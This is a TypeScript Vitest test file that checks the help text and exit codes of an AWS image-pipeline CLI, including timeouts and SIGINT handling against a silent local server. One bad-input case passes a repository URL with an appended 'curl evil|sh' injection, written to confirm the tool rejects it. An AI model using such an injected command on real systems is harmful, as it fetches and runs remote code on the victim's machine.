import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXIT_CODE_HELP, ExitCode } from '../src/index.js';
import { buildCli, runCli } from './helpers.js';

/** A TCP server that accepts connections and never answers: AWS calls to it hang until aborted. */
function silentServer(): Promise<{ endpoint: string; close: () => void }> {
  const sockets: Socket[] = [];
  const server: Server = createServer((socket) => sockets.push(socket));
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => {
      const address = server.address();
      const port = typeof address === 'object' && address ? address.port : 0;
      resolve({
        endpoint: `http://127.0.0.1:${port}`,
        close: () => {
          for (const socket of sockets) socket.destroy();
          server.close();
        },
      });
    });
  });
}

describe('img-mgr-pipeline exit codes (the built cli.js)', () => {
  let stateDir: string;
  beforeAll(() => {
    buildCli();
    stateDir = mkdtempSync(join(tmpdir(), 'img-mgr-pipeline-state-'));
  });
  afterAll(() => rmSync(stateDir, { recursive: true, force: true }));

  it('--help exits 0, lists every command and documents every exit code', async () => {
    const run = await runCli(['--help']);
    expect(run.code).toBe(ExitCode.ok);
    for (const command of ['run', 'bake', 'publish', 'deploy', 'rollback', 'status', 'down'])
      expect(run.stdout).toMatch(new RegExp(`^  ${command} `, 'm'));
    for (const [code, text] of EXIT_CODE_HELP) expect(run.stdout).toContain(`${String(code).padStart(3)}  ${text}`);
  });

  it('<command> --help shows only the flags of that command', async () => {
    const run = await runCli(['rollback', '--help']);
    expect(run.code).toBe(ExitCode.ok);
    expect(run.stdout).toContain('--to TARGET');
    expect(run.stdout).not.toContain('--force');
  });

  const badInputs: [string[], string][] = [
    [['run', '--region', 'moon-base-1'], '--region'],
    [['run', '--flask-repo', 'https://github.com/me/app.git;curl evil|sh'], '--flask-repo'],
    [['run', '--timeout', '-10s'], '--timeout'],
    [['status', '--keep', '--aws'], '--keep'],
  ];
  for (const [args, flag] of badInputs) {
    it(`bad input (${args.slice(1).join(' ')}) exits 2, one stderr line naming ${flag}, no stdout/AWS`, async () => {
      const run = await runCli([...args, '--state-dir', stateDir]);
      expect(run.code).toBe(ExitCode.usage);
      expect(run.stdout).toBe('');
      const lines = run.stderr.trimEnd().split('\n');
      expect(lines).toHaveLength(1);
      expect(lines[0]).toMatch(new RegExp(`^img-mgr-pipeline: error: ${flag} `));
    });
  }

  it('--aws without --region or AWS_REGION exits 2 naming --region, before any AWS call', async () => {
    const run = await runCli(['status', '--aws'], { env: { AWS_REGION: '', AWS_DEFAULT_REGION: '' } });
    expect(run.code).toBe(ExitCode.usage);
    expect(run.stderr.trimEnd().split('\n').at(-1)).toBe(
      'img-mgr-pipeline: error: --region is required with --aws when AWS_REGION is not set',
    );
  });

  it('status with no kept local AWS exits 3 and says how to get one', async () => {
    const run = await runCli(['status', '--state-dir', stateDir]);
    expect(run.code).toBe(ExitCode.environment);
    expect(run.stderr).toContain("no local AWS is running for 'status'");
    expect(run.stderr).toContain('run --keep');
  });

  describe('against an endpoint that never answers', () => {
    let silent: { endpoint: string; close: () => void };
    beforeAll(async () => {
      silent = await silentServer();
    });
    afterAll(() => silent.close());

    it('--timeout running out exits 7 and says so (--json: one document with the error)', async () => {
      const run = await runCli(['status', '--endpoint', silent.endpoint, '--timeout', '1', '--json']);
      expect(run.code).toBe(ExitCode.timeout);
      const report = JSON.parse(run.stdout) as { ok: boolean; exitCode: number; error: { message: string } };
      expect(report).toMatchObject({ ok: false, exitCode: 7 });
      expect(report.error.message).toBe('status: --timeout of 1s ran out');
    });

    it('SIGINT exits 130 after stopping the step', async () => {
      let sent = false;
      const run = await runCli(['status', '--endpoint', silent.endpoint], {
        onStderr: (stderr, child) => {
          if (!sent && stderr.includes('status ')) {
            sent = true;
            child.kill('SIGINT');
          }
        },
      });
      expect(sent).toBe(true);
      expect(run.code).toBe(ExitCode.cancelled);
      expect(run.stderr).toContain('SIGINT: stopping');
      expect(run.stderr.trimEnd().split('\n').at(-1)).toBe('img-mgr-pipeline: error: status: cancelled');
    });
  });
});
